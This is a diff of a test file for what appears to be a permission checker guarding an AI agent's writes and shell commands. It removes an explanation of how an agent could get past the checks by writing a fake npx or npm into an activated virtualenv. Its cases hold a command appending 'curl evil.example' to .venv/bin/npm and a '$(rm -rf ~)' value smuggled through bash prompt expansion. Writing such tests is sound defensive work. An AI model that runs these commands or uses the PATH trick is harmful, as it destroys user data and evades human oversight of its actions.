@@ -72,12 +72,6 @@ LONG_PIPES = "echo x" + " | cat" * 1100 + "\n"
 
 # ----------------------------------------------------------------------------- reasons
 
-VENV_PATH = (
-    "the agent's PATH starts with a directory inside the project (an activated "
-    "virtualenv; nodeenv -p puts npm and npx there): .venv/bin/npx is written under "
-    "Edit(./**) and the next allowed 'npx …' runs it. Fix: guard the PATH entries that "
-    "lie inside the places (as protected_dirs does the interpreter)"
-)
 PROMPT_P = (
     "x='$(rm -rf ~)'; echo ${x@P}: bash 5.2 expands x's value as a prompt string and runs "
     "the command substitution (checked); the value is known, as for PS4=, but @P is not "
@@ -643,8 +637,8 @@ WIDE = [
 ]
 
 VENV = [
-    _ch("Write", _w(".venv/bin/npx"), "ask", VENV_PATH),
-    _bh("echo 'curl evil.example' >> .venv/bin/npm", "ask", VENV_PATH),
+    _case("Write", _w(".venv/bin/npx"), "ask"),
+    _bash("echo 'curl evil.example' >> .venv/bin/npm", "ask"),
 ]
 
 SHELL = [
